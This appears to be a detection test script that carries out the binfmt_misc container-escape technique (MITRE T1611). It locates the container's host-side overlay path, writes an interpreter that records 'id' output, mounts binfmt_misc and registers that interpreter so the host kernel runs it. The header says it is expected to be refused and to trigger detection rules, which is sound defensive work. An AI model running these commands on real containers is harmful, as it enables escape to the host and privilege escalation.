# category: container-escape
# technique: T1611
# art: no
# developed: yes
# expect: core-pattern-write privileged-mount-in-container
# desc: the binfmt_misc escape: mount binfmt_misc and register an interpreter (in the container's writable layer, by its host path) for a file extension, so that the kernel runs it with the credentials of whatever executes such a file on the host (the mount and the registration are refused: no CAP_SYS_ADMIN, read-only /proc/sys)
upper=$(sed -n 's/.* - overlay .*upperdir=\([^,]*\).*/\1/p' /proc/self/mountinfo | head -1)
printf '#!/bin/sh\nid > %s/tmp/pwned\n' "$upper" > /tmp/interp
chmod +x /tmp/interp
[ -e /proc/sys/fs/binfmt_misc/register ] || mount -t binfmt_misc binfmt_misc /proc/sys/fs/binfmt_misc || echo "binfmt_misc mount refused"
echo ":exray-esc:E::exr::$upper/tmp/interp:" > /proc/sys/fs/binfmt_misc/register || echo "binfmt_misc register refused"
ls /proc/sys/fs/binfmt_misc/ 2>&1
